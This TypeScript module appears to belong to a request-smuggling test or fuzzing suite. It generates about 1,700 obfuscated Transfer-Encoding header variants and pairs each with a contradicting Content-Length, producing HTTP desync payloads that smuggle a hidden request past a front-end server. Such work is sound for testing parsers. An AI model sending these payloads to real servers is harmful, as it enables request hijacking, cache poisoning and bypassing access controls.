/**
 * `Transfer-Encoding` in 1,700 spellings, by rule: what stands before the name, between it and its
 * value, around the value and behind it. Each is combined with a `Content-Length` that says otherwise,
 * so that whoever reads the one and whoever reads the other see different requests.
 *
 * @see James Kettle, "HTTP Desync Attacks" (2019), and the mutations of Smuggler; RFC 9112 §6.1
 */
import { lines } from '../fixtures/raw.ts'
import { SMUGGLED, chunked, openHead, type Attack } from './attack.ts'

const CONTROLS = Array.from({ length: 0x21 }, (_, code) => String.fromCharCode(code)).concat(
  ...['\x7f', '\x80', '\x85', '\xa0', '\xad', '\xff'],
)
const NAMES = [
  ...['Transfer-Encoding', 'transfer-encoding', 'TRANSFER-ENCODING', 'tRANSFER-eNCODING'],
  ...['Transfer_Encoding', 'Transfer.Encoding', 'Transfer Encoding', 'TransferEncoding'],
  ...[
    'X-Transfer-Encoding',
    'Transfer-Encoding-X',
    'Transfer-\r\n Encoding',
    'Transfer-Encodin\u0067',
  ],
]
const VALUES = [
  ...['chunked', 'Chunked', 'CHUNKED', 'chunKed', 'chunke', 'chunkedx', 'xchunked', 'chunk ed'],
  ...['identity', 'identity, chunked', 'chunked, identity', 'gzip, chunked', 'chunked, gzip'],
  ...['chunked, chunked', 'chunked,', ',chunked', ', chunked', 'chunked;q=1', 'chunked; x="y"'],
  ...['"chunked"', "'chunked'", 'chunked\tx', 'cow', 'deflate', 'compress, chunked', ''],
  ...['chunked\0', 'chunked#', 'chunked/1', '(chunked)', '\u212achunked'.replace('\u212a', 'K')],
]
const COLONS = [
  ':',
  ': ',
  ':\t',
  ' :',
  ' : ',
  '\t:',
  ':  ',
  ':\v',
  ':\f',
  ': \r\n ',
  ':\r\n\t',
  '::',
]

/** Header lines, each of which some server takes for a transfer coding, or none does. */
function spellings(): string[] {
  return [
    ...NAMES.flatMap(name => COLONS.flatMap(colon => `${name}${colon}chunked`)),
    ...NAMES.flatMap(name => VALUES.map(value => `${name}: ${value}`)),
    ...CONTROLS.flatMap(control => [
      ...[`${control}Transfer-Encoding: chunked`, `Transfer-Encoding${control}: chunked`],
      ...[`Transfer-Encoding:${control}chunked`, `Transfer-Encoding: ${control}chunked`],
      ...[`Transfer-Encoding: chunked${control}`, `Transfer-${control}Encoding: chunked`],
      ...[`Transfer-Encoding: chun${control}ked`, `X: a${control}Transfer-Encoding: chunked`],
      ...[
        `X: a\r${control}Transfer-Encoding: chunked`,
        `X: a\n${control}Transfer-Encoding: chunked`,
      ],
      ...[`X: a\r\n${control}Transfer-Encoding: chunked`, `Transfer-Encoding${control}chunked`],
    ]),
    ...VALUES.flatMap(first =>
      VALUES.map(second => `Transfer-Encoding: ${first}\r\nTransfer-Encoding: ${second}`),
    ),
  ].slice(0, SPELLINGS)
}

export const SPELLINGS = 1_700

/** Each spelling twice: the length is the true one for one reader, the coding for the other. */
export function obfuscations(): Attack[] {
  return spellings().flatMap((spelling, at) => {
    const method = ['POST', 'GET', 'DELETE', 'OPTIONS', 'PUT'][at % 5] ?? 'POST'
    const short = chunked('')
    const whole = `${short}${SMUGGLED}`
    const inside = chunked(SMUGGLED)
    const head = openHead(method)
    const name = JSON.stringify(spelling)
    return [
      {
        family: 'obfuscation',
        name: `the coding ends before the length: ${method} ${name}`,
        pieces: [lines(...head, `Content-Length: ${whole.length}`, spelling) + whole],
      },
      {
        family: 'obfuscation',
        name: `the length ends before the coding: ${method} ${name}`,
        pieces: [lines(...head, spelling, `Content-Length: ${inside.indexOf('\n') + 1}`) + inside],
      },
    ]
  })
}
